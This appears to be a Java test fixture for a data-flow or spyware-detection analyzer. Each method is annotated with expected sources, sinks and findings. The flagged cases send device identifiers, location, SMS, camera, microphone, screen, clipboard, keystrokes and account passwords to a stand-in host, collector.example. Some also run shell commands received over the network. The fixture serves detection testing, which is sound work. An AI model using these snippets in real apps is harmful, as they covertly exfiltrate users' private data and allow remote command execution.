// Android: telephony, messages, location, camera, microphone, screen, clipboard, keystrokes, the device and its apps.
package app;

import android.accounts.AccountManager;
import android.app.ActivityManager;
import android.app.DownloadManager;
import android.app.usage.UsageStatsManager;
import android.bluetooth.BluetoothAdapter;
import android.content.*;
import android.graphics.*;
import android.hardware.Camera;
import android.hardware.camera2.CameraManager;
import android.location.*;
import android.media.*;
import android.media.projection.MediaProjection;
import android.net.Uri;
import android.net.wifi.WifiManager;
import android.os.Build;
import android.provider.Settings;
import android.service.notification.StatusBarNotification;
import android.telephony.*;
import android.view.*;
import android.view.accessibility.*;
import android.widget.EditText;
import com.android.volley.toolbox.StringRequest;
import com.google.android.gms.ads.identifier.AdvertisingIdClient;
import com.google.android.gms.location.FusedLocationProviderClient;
import com.google.firebase.messaging.RemoteMessage;
import java.io.*;
import org.springframework.web.client.RestTemplate;

class Device {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void phone(TelephonyManager phone) {
        rest.postForObject(U, phone.getDeviceId(), String.class); //~ source(DEVICE) f1, sink(egress.http) f1, finding(traced) f1, capability(DEVICE)
        rest.postForObject(U, phone.getDeviceId() == null, String.class); //~ ok
    }

    void cells(TelephonyManager phone) {
        rest.postForObject(U, phone.getAllCellInfo(), String.class); //~ source(LOCATION) f2, sink(egress.http) f2, finding(traced) f2, capability(LOCATION)
        rest.postForObject(U, phone.getAllCellInfo() == null, String.class); //~ ok
    }

    void calls(TelephonyManager phone) {
        phone.listen(new PhoneStateListener() { //~ source(PERSONAL) f3
            public void onCallStateChanged(int state, String number) {
                rest.postForObject(U, number, String.class); //~ sink(egress.http) f3, finding(traced) f3
            }
        }, 1);
        phone.listen(null, 1); //~ ok
    }

    void texted() {
        SmsManager.getDefault().sendTextMessage("+100", null, System.getenv("T"), null, null); //~ source(ENVIRONMENT) f4, sink(egress.message) f4, finding(traced) f4, capability(NETWORK)
        SmsManager.getDefault().sendTextMessage("+100", null, "x", null, null); //~ ok
    }

    void textedParts(SmsManager manager) {
        manager.sendMultipartTextMessage("+100", null, manager.divideMessage(System.getenv("T")), null, null); //~ source(ENVIRONMENT) f5, sink(egress.message) f5, finding(traced) f5
        manager.sendMultipartTextMessage("+100", null, manager.divideMessage("x"), null, null); //~ ok
    }

    void message(byte[] pdu) {
        SmsMessage message = SmsMessage.createFromPdu(pdu); //~ source(PERSONAL) f6
        rest.postForObject(U, message, String.class); //~ sink(egress.http) f6, finding(traced) f6
        rest.postForObject(U, SmsMessage.createFromPdu(pdu) == null, String.class); //~ ok
    }

    void messageText(SmsMessage message) {
        rest.postForObject(U, message.getMessageBody(), String.class); //~ source(PERSONAL) f7, sink(egress.http) f7, finding(traced) f7
        rest.postForObject(U, message.getMessageBody() == null, String.class); //~ ok
    }

    void located(LocationManager manager) {
        rest.postForObject(U, manager.getLastKnownLocation("gps"), String.class); //~ source(LOCATION) f8, sink(egress.http) f8, finding(traced) f8, capability(LOCATION)
        rest.postForObject(U, manager.getLastKnownLocation("gps") == null, String.class); //~ ok
    }

    void locatedLater(LocationManager manager) {
        manager.requestLocationUpdates("gps", 0, 0, new LocationListener() { //~ source(LOCATION) f9, capability(LOCATION)
            public void onLocationChanged(Location location) {
                rest.postForObject(U, location, String.class); //~ sink(egress.http) f9, finding(traced) f9
            }
        });
        manager.requestLocationUpdates("gps", 0, 0, null); //~ ok
    }

    void locatedFused(FusedLocationProviderClient client) {
        client.getLastLocation().addOnSuccessListener(location -> { //~ source(LOCATION) f10, capability(LOCATION)
            rest.postForObject(U, location, String.class); //~ sink(egress.http) f10, finding(traced) f10
        });
        client.getLastLocation().addOnSuccessListener(location -> {}); //~ ok
    }

    void locatedResult(FusedLocationProviderClient client) {
        rest.postForObject(U, client.getLastLocation().getResult(), String.class); //~ source(LOCATION) f11, sink(egress.http) f11, finding(traced) f11
        rest.postForObject(U, client.getLastLocation().getResult() == null, String.class); //~ ok
    }

    void place(Location location, Geocoder coder) {
        rest.postForObject(U, location.getLatitude(), String.class); //~ source(LOCATION) f12, sink(egress.http) f12, finding(traced) f12
        rest.postForObject(U, location.getLatitude() > 0, String.class); //~ ok
    }

    void placeName(Location location, Geocoder coder) {
        rest.postForObject(U, coder.getFromLocation(location.getLatitude(), 1, 1), String.class); //~ source(LOCATION) f13, sink(egress.http) f13, finding(traced) f13
        rest.postForObject(U, coder.getFromLocation(1, 1, 1), String.class); //~ ok
    }

    void camera() {
        Camera camera = Camera.open(); //~ capability(CAMERA)
        camera.takePicture(null, null, new Camera.PictureCallback() { //~ source(CAMERA) f14
            public void onPictureTaken(byte[] data, Camera camera) {
                rest.postForObject(U, data, String.class); //~ sink(egress.http) f14, finding(traced) f14
            }
        });
        Camera.open().takePicture(null, null, null); //~ ok
    }

    void preview(Camera camera) {
        camera.setPreviewCallback((data, from) -> rest.postForObject(U, data, String.class)); //~ source(CAMERA) f15, sink(egress.http) f15, finding(traced) f15
        camera.setPreviewCallback(null); //~ ok
    }

    void image(ImageReader reader) {
        rest.postForObject(U, reader.acquireLatestImage(), String.class); //~ source(CAMERA) f16, sink(egress.http) f16, finding(traced) f16, capability(CAMERA)
        rest.postForObject(U, reader.acquireLatestImage() == null, String.class); //~ ok
    }

    void cameraOpened(CameraManager manager) {
        manager.openCamera("0", null, null); //~ capability(CAMERA)
        manager.openCamera("0", null, null); //~ ok
    }

    void recorded(MediaRecorder recorder) {
        recorder.setAudioSource(1); //~ source(AUDIO) f17, capability(MICROPHONE)
        File file = new File("/tmp/jm-audio");
        recorder.setOutputFile(file.getAbsolutePath());
        FileInputStream in = new FileInputStream(file); //~ source(FILE) f18
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f17, finding(traced) f17, sink(egress.http) f18, finding(traced) f18
    }

    void filmed(MediaRecorder recorder) {
        recorder.setVideoSource(1); //~ source(CAMERA) f19, capability(CAMERA)
        rest.postForObject(U, recorder, String.class); //~ sink(egress.http) f19, finding(traced) f19
    }

    void recordedNothing(MediaRecorder recorder) {
        recorder.setVideoSource(1); //~ ok
        recorder.setAudioSource(1); //~ ok
        recorder.setOutputFile("/tmp/jm-none"); //~ ok
    }

    void heard() {
        AudioRecord record = new AudioRecord(1, 1, 1, 1, 1); //~ capability(MICROPHONE)
        byte[] buffer = new byte[100];
        record.read(buffer, 0, 100); //~ source(AUDIO) f20
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f20, finding(traced) f20
    }

    void heardNothing(AudioRecord record) {
        byte[] buffer = new byte[100];
        record.getState(); //~ ok
        rest.postForObject(U, buffer, String.class); //~ ok
        rest.postForObject(U, new AudioRecord(1, 1, 1, 1, 1) == null, String.class); //~ ok
    }

    void projected(MediaProjection projection) {
        rest.postForObject(U, projection.createVirtualDisplay("x", 1, 1, 1, 1, null, null, null), String.class); //~ source(SCREEN) f21, sink(egress.http) f21, finding(traced) f21, capability(SCREEN)
        rest.postForObject(U, projection.createVirtualDisplay("x", 1, 1, 1, 1, null, null, null) == null, String.class); //~ ok
    }

    void drawn(View view) {
        Bitmap image = view.getDrawingCache(); //~ source(SCREEN) f22, capability(SCREEN)
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        image.compress(Bitmap.CompressFormat.JPEG, 20, out);
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f22, finding(traced) f22
        rest.postForObject(U, view.getDrawingCache() == null, String.class); //~ ok
    }

    void decoded(Bitmap given) {
        Bitmap image = BitmapFactory.decodeByteArray(System.getenv("T").getBytes(), 0, 1); //~ source(ENVIRONMENT) f23
        rest.postForObject(U, image, String.class); //~ sink(egress.http) f23, finding(traced) f23
        rest.postForObject(U, BitmapFactory.decodeByteArray(new byte[1], 0, 1), String.class); //~ ok
        given.compress(Bitmap.CompressFormat.JPEG, 20, new ByteArrayOutputStream()); //~ ok
    }

    void decodedFile() {
        rest.postForObject(U, BitmapFactory.decodeFile("/sdcard/x.jpg"), String.class); //~ source(FILE) f24, sink(egress.http) f24, finding(traced) f24, capability(FILES)
        rest.postForObject(U, BitmapFactory.decodeFile("/sdcard/x.jpg") == null, String.class); //~ ok
    }

    void clipboard(ClipboardManager clipboard) {
        rest.postForObject(U, clipboard.getPrimaryClip().getItemAt(0).getText(), String.class); //~ source(CLIPBOARD) f25, sink(egress.http) f25, finding(traced) f25, capability(CLIPBOARD)
    }

    void clipboardNone(ClipboardManager clipboard, ClipData clip) {
        rest.postForObject(U, clipboard.getPrimaryClip() == null, String.class); //~ ok
        rest.postForObject(U, clip.getItemAt(0).getText(), String.class); //~ ok
    }

    void typed(AccessibilityEvent event) {
        rest.postForObject(U, event.getText(), String.class); //~ source(KEYSTROKE) f26, sink(egress.http) f26, finding(traced) f26, capability(KEYBOARD)
        rest.postForObject(U, event.getText() == null, String.class); //~ ok
    }

    void shown(AccessibilityEvent event) {
        rest.postForObject(U, event.getSource().getChild(0).getText(), String.class); //~ source(SCREEN) f27, sink(egress.http) f27, finding(traced) f27, capability(SCREEN)
        rest.postForObject(U, event.getSource().getChild(0).getText() == null, String.class); //~ ok
    }

    void key(KeyEvent event) {
        rest.postForObject(U, event.getKeyCode(), String.class); //~ source(KEYSTROKE) f28, sink(egress.http) f28, finding(traced) f28
        rest.postForObject(U, event.getKeyCode() == 1, String.class); //~ ok
    }

    void notified(StatusBarNotification note) {
        rest.postForObject(U, note.getNotification(), String.class); //~ source(PERSONAL) f29, sink(egress.http) f29, finding(traced) f29
        rest.postForObject(U, note.getNotification() == null, String.class); //~ ok
    }

    void entered(EditText field) {
        rest.postForObject(U, field.getText(), String.class); //~ source(INPUT) f30, sink(egress.http) f30, finding(traced) f30
        rest.postForObject(U, field.getText() == null, String.class); //~ ok
    }

    void model() {
        rest.postForObject(U, Build.MODEL, String.class); //~ source(DEVICE) f31, sink(egress.http) f31, finding(traced) f31
        rest.postForObject(U, Build.MODEL == null, String.class); //~ ok
    }

    void serial() {
        rest.postForObject(U, Build.getSerial(), String.class); //~ source(DEVICE) f32, sink(egress.http) f32, finding(traced) f32, capability(DEVICE)
        rest.postForObject(U, Build.getSerial() == null, String.class); //~ ok
    }

    void settings(ContentResolver resolver) {
        rest.postForObject(U, Settings.Secure.getString(resolver, Settings.Secure.ANDROID_ID).trim(), String.class); //~ source(DEVICE) f33, sink(egress.http) f33, finding(traced) f33, capability(DEVICE)
        rest.postForObject(U, Settings.Secure.getString(resolver, "x") == null, String.class); //~ ok
    }

    void advertised(Context context) {
        rest.postForObject(U, AdvertisingIdClient.getAdvertisingIdInfo(context), String.class); //~ source(DEVICE) f34, sink(egress.http) f34, finding(traced) f34, capability(DEVICE)
        rest.postForObject(U, AdvertisingIdClient.getAdvertisingIdInfo(context) == null, String.class); //~ ok
    }

    void apps(Context context) {
        rest.postForObject(U, context.getPackageManager().getInstalledPackages(0), String.class); //~ source(DEVICE) f35, sink(egress.http) f35, finding(traced) f35, capability(DEVICE)
        rest.postForObject(U, context.getPackageManager().getInstalledPackages(0) == null, String.class); //~ ok
    }

    void running(ActivityManager manager) {
        rest.postForObject(U, manager.getRunningAppProcesses(), String.class); //~ source(PROCESS) f36, sink(egress.http) f36, finding(traced) f36, capability(PROCESSES)
        rest.postForObject(U, manager.getRunningAppProcesses() == null, String.class); //~ ok
    }

    void used(UsageStatsManager manager) {
        rest.postForObject(U, manager.queryUsageStats(1, 1, 1), String.class); //~ source(PROCESS) f37, sink(egress.http) f37, finding(traced) f37, capability(PROCESSES)
        rest.postForObject(U, manager.queryUsageStats(1, 1, 1) == null, String.class); //~ ok
    }

    void accounts(Context context) {
        rest.postForObject(U, AccountManager.get(context).getAccounts(), String.class); //~ source(USER) f38, sink(egress.http) f38, finding(traced) f38, capability(CREDENTIALS)
        rest.postForObject(U, AccountManager.get(context).getAccounts() == null, String.class); //~ ok
    }

    void token(AccountManager manager) {
        rest.postForObject(U, manager.getPassword(null), String.class); //~ source(CREDENTIAL) f39, sink(egress.http) f39, finding(traced) f39, capability(CREDENTIALS)
        rest.postForObject(U, manager.getPassword(null) == null, String.class); //~ ok
    }

    void wifi(WifiManager manager) {
        rest.postForObject(U, manager.getConnectionInfo(), String.class); //~ source(DEVICE) f40, sink(egress.http) f40, finding(traced) f40, capability(DEVICE)
        rest.postForObject(U, manager.getConnectionInfo() == null, String.class); //~ ok
    }

    void networks(WifiManager manager) {
        rest.postForObject(U, manager.getScanResults(), String.class); //~ source(LOCATION) f41, sink(egress.http) f41, finding(traced) f41, capability(LOCATION)
        rest.postForObject(U, manager.getScanResults() == null, String.class); //~ ok
    }

    void bluetooth(BluetoothAdapter adapter) {
        rest.postForObject(U, adapter.getAddress(), String.class); //~ source(DEVICE) f42, sink(egress.http) f42, finding(traced) f42, capability(DEVICE)
        rest.postForObject(U, adapter.getAddress() == null, String.class); //~ ok
    }

    void requested() {
        new StringRequest(0, "https://volley.collector.example/?t=" + System.getenv("T"), text -> {}, null); //~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43, capability(NETWORK)
        new StringRequest(0, "https://volley.collector.example/", text -> { //~ source(NETWORK) f44
            Runtime.getRuntime().exec(text); //~ sink(exec.command) f44, finding(traced) f44
        }, null);
        new StringRequest(0, "https://volley.collector.example/", text -> {}, null); //~ ok
    }

    void downloaded() {
        new DownloadManager.Request(Uri.parse("https://dm.collector.example/?t=" + System.getenv("T"))); //~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45, capability(NETWORK)
        new DownloadManager.Request(Uri.parse("https://dm.collector.example/")); //~ ok
    }

    void pushed(RemoteMessage message) {
        Runtime.getRuntime().exec(message.getData().get("c")); //~ source(NETWORK) f46, sink(exec.command) f46, finding(traced) f46
        Runtime.getRuntime().exec("x" + (message.getData() == null)); //~ ok
    }

    void card(TelephonyManager manager) {
        rest.postForObject(U, manager.createForSubscriptionId(1).getImei(), String.class); //~ source(DEVICE) f47, sink(egress.http) f47, finding(traced) f47
        rest.postForObject(U, manager.createForSubscriptionId(1).hashCode(), String.class); //~ ok
    }

    void cards(Context context) {
        SubscriptionManager manager = (SubscriptionManager) context.getSystemService("telephony_subscription_service");
        rest.postForObject(U, SubscriptionManager.from(context).getPhoneNumber(2), String.class); //~ source(DEVICE) f51, sink(egress.http) f51, finding(traced) f51, capability(DEVICE)
        rest.postForObject(U, manager.getActiveSubscriptionInfoList().get(0).getIccId(), String.class); //~ source(DEVICE) f48, sink(egress.http) f48, finding(traced) f48, capability(DEVICE)
        rest.postForObject(U, manager.getActiveSubscriptionInfo(1).getNumber(), String.class); //~ source(DEVICE) f49, sink(egress.http) f49, finding(traced) f49
        rest.postForObject(U, manager.getPhoneNumber(1), String.class); //~ source(DEVICE) f50, sink(egress.http) f50, finding(traced) f50
        rest.postForObject(U, SubscriptionManager.from(context) == null, String.class); //~ ok
        rest.postForObject(U, manager.getActiveSubscriptionInfo(1).getNumber() == null, String.class); //~ ok
        rest.postForObject(U, manager.getActiveSubscriptionInfoList().size(), String.class); //~ ok
        rest.postForObject(U, manager.getPhoneNumber(1) == null, String.class); //~ ok
    }
}

class Queued {
    void params(com.android.volley.RequestQueue queue) {
        final String token = System.getenv("T"); //~ source(ENVIRONMENT) vq1
        queue.add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ sink(egress.http) vq1, finding(environment-exfiltration, traced) vq1, capability(NETWORK)
            protected java.util.Map<String, String> getParams() {
                java.util.Map<String, String> params = new java.util.HashMap<>();
                params.put("t", token);
                return params;
            }
        });
    }

    void made(android.content.Context context) {
        final String token = System.getenv("T"); //~ source(ENVIRONMENT) vq2
        com.android.volley.toolbox.Volley.newRequestQueue(context).add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ sink(egress.http) vq2, finding(environment-exfiltration, traced) vq2, capability(NETWORK)
            public byte[] getBody() {
                return token.getBytes();
            }
        });
    }

    void quiet(android.content.Context context) {
        com.android.volley.toolbox.Volley.newRequestQueue(context).add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ ok
            public byte[] getBody() {
                return "nothing".getBytes();
            }
        });
    }
}
